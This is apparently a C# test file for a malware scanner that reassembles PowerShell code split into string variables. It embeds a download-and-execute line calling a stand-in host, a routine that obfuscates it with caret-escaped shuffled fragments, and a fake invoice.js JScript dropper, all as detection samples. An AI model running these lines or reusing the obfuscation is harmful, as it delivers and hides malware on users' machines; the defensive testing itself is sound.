using System.Text;
using Crible.Model;
using Crible.Scanners.Scripts;

namespace Crible.Tests.Scanners.Scripts;

/// <summary>PowerShell whose code is cut into string variables and run as their sum: joined, emitted and judged as
/// the code that runs.</summary>
public sealed class PowerShellJoinTests
{
    private const string Code = "Set-ExecutionPolicy Bypass -Scope Process; $path=($env:temp+'\\upd.exe');(New-Object System.Net.WebClient).DownloadFile('http://joined.example.org/p/777.exe',$path); Start-Process $path";

    /// <summary>The code cut into fragments of 3 to 10 characters, each in a variable given a caret-escaped literal
    /// (as the droppers write them for cmd), then summed in shuffled declaration order.</summary>
    private static string CmdLine(string code, int seed)
    {
        var random = new Random(seed);
        var fragments = new List<string>();
        for (var at = 0; at < code.Length;)
        {
            var length = Math.Min(random.Next(3, 11), code.Length - at);
            fragments.Add(code.Substring(at, length));
            at += length;
        }

        var names = fragments.Select((_, i) => "v" + string.Concat(Enumerable.Range(0, 5).Select(_ => (char)random.Next('a', 'z' + 1))) + i).ToList();
        var declarations = fragments.Select((f, i) => $"${names[i]}='^{f.Replace("'", "''", StringComparison.Ordinal)}';").OrderBy(_ => random.Next());
        return $"cmd.exe /c \"powershell  {string.Concat(declarations)} Invoke-Expression ({string.Join('+', names.Select(n => "$" + n))});\"";
    }

    [Fact]
    public async Task A_download_cut_into_caret_escaped_variables_is_joined_and_malicious_with_its_url()
    {
        var report = await TestEngine.Default.AnalyseAsync(Encoding.ASCII.GetBytes(CmdLine(Code, 7)), "command-1.txt");

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var joined = Assert.Single(report.Nodes, n => n.Name == "encoded-command-joined-1.ps1");
        Assert.Equal(Relation.Decoded, joined.Relation);
        Assert.Equal(Code.Length, joined.Size);
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "ps-string-join" && f.Severity == Severity.Suspicious && f.Evidence!.StartsWith("Set-ExecutionPolicy Bypass", StringComparison.Ordinal));
        var verdict = Assert.Single(joined.Findings, f => f.Id == "hidden-download-execute");
        Assert.Contains("T1105", verdict.Attack);
        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "http://joined.example.org/p/777.exe");
    }

    [Fact]
    public async Task A_jscript_dropper_that_runs_such_a_line_is_malicious_with_the_url_the_line_hides()
    {
        var line = CmdLine(Code, 11).Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal);
        var dropper = $"var shell = new ActiveXObject(\"WScript.Shell\");\nshell.Run(\"{line}\", 0, false);\n";

        var report = await TestEngine.Default.AnalyseAsync(Encoding.ASCII.GetBytes(dropper), "invoice.js");

        Assert.Equal(Verdict.Malicious, report.Verdict);
        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "http://joined.example.org/p/777.exe");
        Assert.Contains(report.Nodes, n => n.Name == "encoded-command-joined-1.ps1");
    }

    [Fact]
    public void Literals_and_variables_are_joined_in_order_and_doubled_quotes_undone()
    {
        var joined = PowerShellJoinScanner.Join("$a = 'Write-';$b='Host';\n$c = ' ''hi''' ; iex ($a + $b + $c + '!')");

        Assert.Equal(["Write-Host 'hi'!"], joined);
    }

    [Theory]
    [InlineData("$a='Write-';$b='Host'; iex ($a + $b + $unknown)")]
    [InlineData("$a='Write-'; iex ($a + 'Host')")]
    [InlineData("iex ('Write-' + 'Host' + ' hi')")]
    [InlineData("Start-Process powershell.exe -ArgumentList '-nop'")]
    public void Sums_with_an_unknown_variable_too_few_terms_or_no_variable_are_left_alone(string script) =>
        Assert.Empty(PowerShellJoinScanner.Join(script));

    [Fact]
    public void Carets_are_only_removed_from_a_line_cmd_runs()
    {
        Assert.Equal(["Write-Host a^b"], PowerShellJoinScanner.Join("$a='^Write-';$b='^Host';$c=' a^^b'; iex ($a+$b+$c)".Insert(0, "cmd /c powershell ")));
        Assert.Equal(["^Write-^Host a^^b"], PowerShellJoinScanner.Join("$a='^Write-';$b='^Host';$c=' a^^b'; iex ($a+$b+$c)"));
    }

    [Fact]
    public async Task A_benign_script_that_joins_a_greeting_is_not_malicious()
    {
        var script = "param([string]$Team = 'team')\n$ErrorActionPreference = 'Stop'\n$first = 'Good';$second = ' morning';$name = ', '\nGet-ChildItem -Path $env:TEMP | Where-Object { $_.Length -gt 0 } | Out-Null\nWrite-Host ($first + $second + $name) $Team\n";

        var report = await TestEngine.Default.AnalyseAsync(Encoding.ASCII.GetBytes(script), "greet.ps1");

        Assert.NotEqual(Verdict.Malicious, report.Verdict);
        Assert.Contains(report.Nodes, n => n.Name == "encoded-command-joined-1.ps1");
    }

    [Fact]
    public void Mutated_lines_never_throw_and_stay_bounded()
    {
        var line = CmdLine(Code, 3);
        var random = new Random(5150);
        const string Alphabet = "$'+()^;= \"\r\nabc";
        for (var i = 0; i < 3000; i++)
        {
            var characters = line.ToCharArray();
            for (var flips = random.Next(1, 30); flips > 0; flips--)
            {
                characters[random.Next(characters.Length)] = Alphabet[random.Next(Alphabet.Length)];
            }

            var joined = PowerShellJoinScanner.Join(new string(characters, 0, random.Next(1, characters.Length + 1)));
            Assert.True(joined.Count <= 21);
            Assert.All(joined, j => Assert.True(j.Length <= line.Length));
        }
    }
}
